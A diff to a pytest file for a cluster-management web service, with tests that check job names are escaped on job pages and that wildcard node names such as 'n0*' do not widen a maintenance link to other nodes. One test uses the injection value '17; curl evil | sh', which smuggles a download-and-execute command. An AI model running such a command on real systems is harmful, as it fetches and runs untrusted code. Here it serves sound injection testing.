@@ -11,6 +11,8 @@ import numpy as np
 import pytest
 from tests.service.sample_state import snapshot
 
+from clustertwin.service.store.name_patterns import matches
+
 
 @pytest.fixture
 def show(published):
@@ -40,3 +42,14 @@ def test_blocks_that_are_loaded_again_ask_for_the_same_name(client, show, folder
 def test_the_command_on_the_page_of_a_job_is_safe_to_copy(client, show):
     show("17; curl evil | sh")
     assert "<code>twin job &#39;17; curl evil | sh&#39;</code>" in client.get("/jobs/17;%20curl%20evil%20|%20sh").text
+
+
+@pytest.mark.parametrize("name", ["*", "n0*", "a?", "n01 n02", "n01,n02", "job[3]", "a*[b]"])
+def test_the_link_to_maintenance_covers_no_other_node(client, show, name):
+    """A node chose the name n0*, and its link put every node with such a name into maintenance."""
+    show(name)
+    link = unescape(re.search(r'href="(/quiet\?[^"]*)"', client.get(f"/nodes/{quote(name, safe='')}").text)[1])
+    nodes = unescape(re.search(r'name="nodes" value="([^"]*)"', client.get(link).text)[1])
+    patterns = nodes.replace(",", " ").split()
+    assert any(matches(name, pattern) for pattern in patterns)
+    assert not any(matches(other, pattern) for other in ("n01", "n02", "ab", "a") for pattern in patterns)
